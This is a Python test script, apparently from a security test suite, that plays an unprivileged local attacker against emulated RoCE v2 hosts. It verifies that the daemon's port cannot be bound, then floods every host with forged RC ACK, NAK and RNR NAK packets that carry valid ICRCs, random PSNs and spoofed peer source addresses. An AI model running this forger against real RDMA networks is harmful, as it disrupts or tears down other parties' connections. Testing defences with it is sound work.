#!/usr/bin/env python3
"""An unprivileged local attacker against a set of emulated hosts: forged RC ACKs, NAKs and RNR
NAKs with a valid ICRC and random PSNs, sent from ordinary UDP sockets to every host, for every
QPN given, each one claiming to come from another host of the set (its address, any port the
kernel lets us have).

First it checks the premise of the defence: it cannot bind the RoCE port on any host's address
(the daemon holds it), not even with SO_REUSEADDR or SO_REUSEPORT.

usage: forge.py PORT SECONDS HOST_ADDR,... QPN[,QPN...]
prints "sent N" (all packets) and "sent_to H N" (per destination address); exit 0, or 3 when
the port of a host could be bound (the packets would then be indistinguishable from the peer's).
"""
import os
import random
import socket
import struct
import sys
import time
import zlib

IP_MTU_DISCOVER = getattr(socket, "IP_MTU_DISCOVER", 10)
IP_PMTUDISC_DO = getattr(socket, "IP_PMTUDISC_DO", 2)
RC_ACKNOWLEDGE = 0x11
# AETH syndromes: ACK (no credits), RNR NAK (timer 31), NAK PSN sequence error, invalid
# request, remote access error, remote operational error.
SYNDROMES = (0x1F, 0x3F, 0x60, 0x61, 0x62, 0x63)


def icrc(src, sport, dst, dport, body):
    """The RoCE v2 ICRC of a UDP payload `body` (BTH onwards, without the ICRC) sent from a
    plain UDP socket with DF set (IP ID 0), as in icrc_check.py."""
    udp_len = 8 + len(body) + 4
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0xFF, 20 + udp_len, 0, 0x4000, 0xFF, 17, 0xFFFF,
                     socket.inet_aton(src), socket.inet_aton(dst))
    udp = struct.pack("!HHHH", sport, dport, udp_len, 0xFFFF)
    masked = bytearray(body)
    masked[4] = 0xFF  # BTH byte 4: FECN, BECN, reserved
    return zlib.crc32(b"\xff" * 8 + ip + udp + bytes(masked)) & 0xFFFFFFFF


def packet(src, sport, dst, dport, qpn, syndrome):
    psn = random.getrandbits(24)
    bth = struct.pack("!BBHII", RC_ACKNOWLEDGE, 0, 0xFFFF, qpn & 0xFFFFFF, psn)
    aeth = struct.pack("!I", syndrome << 24 | random.getrandbits(24))
    body = bth + aeth
    return body + struct.pack("<I", icrc(src, sport, dst, dport, body))


def can_bind(addr, port, option):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        if option:
            s.setsockopt(socket.SOL_SOCKET, option, 1)
        s.bind((addr, port))
        return True
    except OSError:
        return False
    finally:
        s.close()


def main():
    port, seconds = int(sys.argv[1]), float(sys.argv[2])
    hosts = sys.argv[3].split(",")
    qpns = [int(q, 0) for q in sys.argv[4].split(",")]
    print(f"uid {os.getuid()}: {len(hosts)} hosts, port {port}, {len(qpns)} QPNs")
    for addr in hosts:
        for name, option in (("plain", 0), ("SO_REUSEADDR", socket.SO_REUSEADDR),
                             ("SO_REUSEPORT", socket.SO_REUSEPORT)):
            if can_bind(addr, port, option):
                print(f"premise broken: bound {addr}:{port} ({name})")
                return 3
    print(f"cannot bind port {port} on any host address (plain, SO_REUSEADDR, SO_REUSEPORT)")
    # One socket per claimed source: another host's address, an ephemeral port.
    senders = {}
    for addr in hosts:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.IPPROTO_IP, IP_MTU_DISCOVER, IP_PMTUDISC_DO)
        s.bind((addr, 0))
        senders[addr] = s
    sent = {addr: 0 for addr in hosts}
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for dst in hosts:
            for src in hosts:
                if src == dst:
                    continue
                s = senders[src]
                sport = s.getsockname()[1]
                for qpn in qpns:
                    for syndrome in SYNDROMES:
                        try:
                            s.sendto(packet(src, sport, dst, port, qpn, syndrome), (dst, port))
                            sent[dst] += 1
                        except BlockingIOError:
                            pass
        time.sleep(0.02)  # leave the 2 cores to the hosts now and then
    print(f"sent {sum(sent.values())}")
    for dst, n in sent.items():
        print(f"sent_to {dst} {n}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
